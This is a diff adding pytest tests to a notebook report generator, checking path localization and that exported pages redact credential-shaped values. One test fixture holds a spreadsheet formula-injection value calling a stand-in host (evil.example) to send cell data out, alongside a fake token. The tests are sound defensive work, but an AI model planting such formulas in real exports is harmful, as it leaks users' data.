@@ -1224,6 +1224,58 @@ def test_token_redaction_is_linear_on_hostile_megabytes(unit):
     assert time.monotonic() - t0 < 5
 
 
+def test_localize_paths_rewrites_markdown_escaped_paths(tmp_path):
+    """nb.text() stores a path escaped in the .ipynb (``\\/tmp\\/rev\\-html\\/in\\/costs\\.csv``): the .ipynb pass did
+    not recognize it, and the page showed ``<strong>/tmp/rev-html/in/costs.csv</strong>``."""
+    root = tmp_path / "project"
+    src = f"{tmp_path}/in/my_costs-2026.csv"
+    md = nb.md(f"Read from **{nb.text(src)}** and {nb.code(src)}; {nb.text('/per/month')}").data
+    assert f"**{str(tmp_path)[:4]}" not in md and "**\\/" in md  # stored escaped
+    out = report.localize_paths(md, root)
+    assert out == ("Read from **\\.\\.\\/in\\/my\\_costs\\-2026\\.csv** and `../in/my_costs-2026.csv`; "
+                   "\\/per\\/month")
+    assert report.localize_paths(r"\/nonexistent-top\/a\/b x\/tmp\/y", root) == r"\/nonexistent-top\/a\/b x\/tmp\/y"
+    assert report.localize_paths(out, root) == out  # idempotent
+
+
+def test_localize_html_rewrites_page_text_not_scripts_or_data_uris(tmp_path):
+    root = tmp_path / "project"
+    page = (f'<p><strong>{tmp_path}/in/costs.csv</strong> <a href="file://{tmp_path}/x.html">x</a></p>'
+            f'<script>var r=a/run/g;var p="{tmp_path}/kept";</script><style>.a{{background:url(/usr/x/y.png)}}</style>'
+            f'<img src="data:image/png;base64,AAAA+/tmp/abc+/usr/lib/AAA=">')
+    out = report.localize_html(page, root)
+    assert out.startswith('<p><strong>../in/costs.csv</strong> <a href="../x.html">x</a></p><script>var r=a/run/g;')
+    assert out.split("</p>", 1)[1] == page.split("</p>", 1)[1]  # script, style and data: URI as they were
+
+
+def test_report_page_is_safe_end_to_end(tmp_path):
+    """One report through the runner: a path passed through nb.text() is relative in the page and the .ipynb, a
+    file named by a data value is not read into the page, a credential-shaped tag value is redacted everywhere
+    (page, .ipynb, CSV download) and a formula-shaped one cannot run in a spreadsheet."""
+    src = f"{tmp_path}/in/costs.csv"
+    token = "ghp_" + "aB3dE6" * 6
+    body = (
+        "import pandas as pd\nimport finops_kit.notebook as nb\nfrom IPython.display import display\n"
+        f"src = {src!r}\n"
+        "display(nb.md(f'Read from **{nb.text(src)}** and {nb.code(src)}'))\n"
+        "display(nb.md('{team}', team='Makefile'))\n"
+        f"df = pd.DataFrame({{'tag_value': ['=HYPERLINK(\"http://evil.example/?x=\"&A2)', {token!r}] * 20, "
+        "'cost': [-12.5, 1.0] * 20})\n"
+        "display(nb.table(df))")
+    book = _tiny_notebook(tmp_path / "safe.ipynb", body)
+    [r] = report.run_jobs([_job(book)], tmp_path / "out", timeout_cell=120, timeout_notebook=240)
+    assert r.status == "ok", r.error
+    page = (tmp_path / "out" / r.html).read_text(encoding="utf-8")
+    ipynb = (tmp_path / "out" / r.ipynb).read_text(encoding="utf-8")
+    for text in (page, ipynb):
+        assert str(tmp_path) not in text and str(tmp_path).replace("/", "\\\\/") not in text
+        assert token not in text and "[redacted]" in text
+        assert "make demo" not in text  # the Makefile's text
+    assert "<strong>../../../" in page or "<strong>.." in page
+    (csv,) = _csv_links(page)
+    assert token not in csv and "\n\"'=HYPERLINK" in csv and "-12.5" in csv
+
+
 def test_localize_paths_after_an_ansi_colour_code(tmp_path):
     """IPython tracebacks colour file names: ``\\x1b[0;32m/tmp/...`` kept the absolute path (the ``m`` looked like
     a word before it)."""
